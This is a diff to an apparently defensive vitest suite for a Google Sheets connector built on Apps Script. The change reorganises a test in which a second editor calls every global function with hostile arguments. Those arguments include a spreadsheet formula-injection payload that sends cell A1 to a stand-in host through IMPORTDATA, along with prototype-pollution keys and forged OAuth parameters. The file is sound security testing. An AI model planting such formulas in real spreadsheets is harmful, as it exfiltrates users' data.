@@ -4,7 +4,7 @@
  * google.script.run from the sidebar, which may call any global with any JSON arguments). Each
  * test asserts the SAFE behaviour; a failing test is a finding.
  */
-import { afterEach, describe, expect, it } from 'vitest';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import type { SheetModel } from '../../dev/gas-runtime/spreadsheet/sheet-model';
 import type { Workbook } from '../../dev/gas-runtime/spreadsheet/workbook';
 import { sidebarConnection } from '../../dev/harness/inspect';
@@ -71,61 +71,81 @@ describe("another editor and the connector's connection and schedule", () => {
       owner: 'user@example.com',
     });
   }, 120_000);
+});
 
-  it('B calling every other global with hostile arguments: no token anywhere, and A keeps connection, schedule and opt-in', async () => {
-    const { s } = await aSetUp();
-    let deep: unknown = 'x';
-    for (let i = 0; i < 500; i++) deep = [deep];
-    const hostile: unknown[][] = [
-      [],
-      [null],
-      [{}],
-      ['=IMPORTDATA("https://x.example/?d="&A1)'],
-      [{ createdAfter: '=1+1' }],
-      [{ month: "2026-10'!A1" }],
-      [{ orders: { choice: 'custom', columns: ['=1+1', '__proto__'] } }],
-      [deep],
-      [{ parameter: { code: 'forged', state: 'forged', flow: 'forged', sheet: 'forged' } }],
-    ];
-    const globals = [
-      'getSidebarState',
-      'getSidebarStamp',
-      'beginConnect',
-      'startSync',
-      'cancelSync',
-      'runSyncStep',
-      'setSchedule',
-      'setOrdersWindow',
-      'setColumns',
-      'closeMonth',
-      'insertDashboard',
-      'checkApiConnection',
-      'onScheduledSync',
-      'reconcileOrdersNow',
-      'tieOutNow',
-      'refreshFormulasFromMenu',
-      'syncNowFromMenu',
-      'showEnvironmentCheck',
-      'showHelp',
-      'showSidebar',
-      'authCallback',
-      'onOpen',
-      'PROFIT_SUMMARY',
-      'PROFIT_DAILY',
-      'PROFIT_MONTHLY',
-      'MA_FRESHNESS',
-      'PROFIT_ORDER',
-      'PRODUCT_COST',
-      'PROFIT_TIEOUT',
-    ];
-    const windowBefore = s.runtime.properties.document.get('ma.sync.orders');
-    for (const name of globals) {
+/*
+ * One execution per global and argument set: 29 × 9 of them, each a worker loading the bundle. They
+ * share one set-up, and each global is its own test with its own time, so a host loaded many times
+ * over (each execution taking seconds) does not add them all up against one limit.
+ */
+describe('B calling every other global with hostile arguments: no token anywhere, and A keeps connection, schedule and opt-in', () => {
+  let s: ReliabilityStack;
+  let deep: unknown = 'x';
+  for (let i = 0; i < 500; i++) deep = [deep];
+  const hostile: unknown[][] = [
+    [],
+    [null],
+    [{}],
+    ['=IMPORTDATA("https://x.example/?d="&A1)'],
+    [{ createdAfter: '=1+1' }],
+    [{ month: "2026-10'!A1" }],
+    [{ orders: { choice: 'custom', columns: ['=1+1', '__proto__'] } }],
+    [deep],
+    [{ parameter: { code: 'forged', state: 'forged', flow: 'forged', sheet: 'forged' } }],
+  ];
+  const globals = [
+    'getSidebarState',
+    'getSidebarStamp',
+    'beginConnect',
+    'startSync',
+    'cancelSync',
+    'runSyncStep',
+    'setSchedule',
+    'setOrdersWindow',
+    'setColumns',
+    'closeMonth',
+    'insertDashboard',
+    'checkApiConnection',
+    'onScheduledSync',
+    'reconcileOrdersNow',
+    'tieOutNow',
+    'refreshFormulasFromMenu',
+    'syncNowFromMenu',
+    'showEnvironmentCheck',
+    'showHelp',
+    'showSidebar',
+    'authCallback',
+    'onOpen',
+    'PROFIT_SUMMARY',
+    'PROFIT_DAILY',
+    'PROFIT_MONTHLY',
+    'MA_FRESHNESS',
+    'PROFIT_ORDER',
+    'PRODUCT_COST',
+    'PROFIT_TIEOUT',
+  ];
+
+  beforeAll(async () => {
+    s = (await aSetUp()).s;
+    // Kept for the whole describe: the file's afterEach closes only a stack a single test set up.
+    stack = undefined;
+  }, 300_000);
+
+  afterAll(async () => {
+    await s?.close();
+  });
+
+  for (const name of globals) {
+    it(`B's ${name} with every hostile argument set: no token anywhere`, async () => {
       for (const args of hostile) {
         const r = await s.runtime.run(name, args, { user: B, timeLimitMs: 60_000 });
         s.outputs.push(JSON.stringify(r));
       }
-    }
-    expect(await tokensIn(s)).toEqual([]);
+      expect(await tokensIn(s)).toEqual([]);
+    }, 300_000);
+  }
+
+  it('after all of them, A keeps connection, schedule and opt-in', async () => {
     const a = await s.runtime.run('getSidebarState', []);
     const view = a.value as { connection: { state: string }; schedule: { mode: string; owner: string | null } };
     expect({ connection: view.connection.state, mode: view.schedule.mode, owner: view.schedule.owner }).toEqual({
@@ -135,6 +155,5 @@ describe("another editor and the connector's connection and schedule", () => {
     });
     expect(s.runtime.properties.document.get('ma.failure-notice')).toContain('user@example.com');
     expect((await sidebarConnection(s.runtime)).state).toBe('connected');
-    void windowBefore;
-  }, 600_000);
+  }, 120_000);
 });
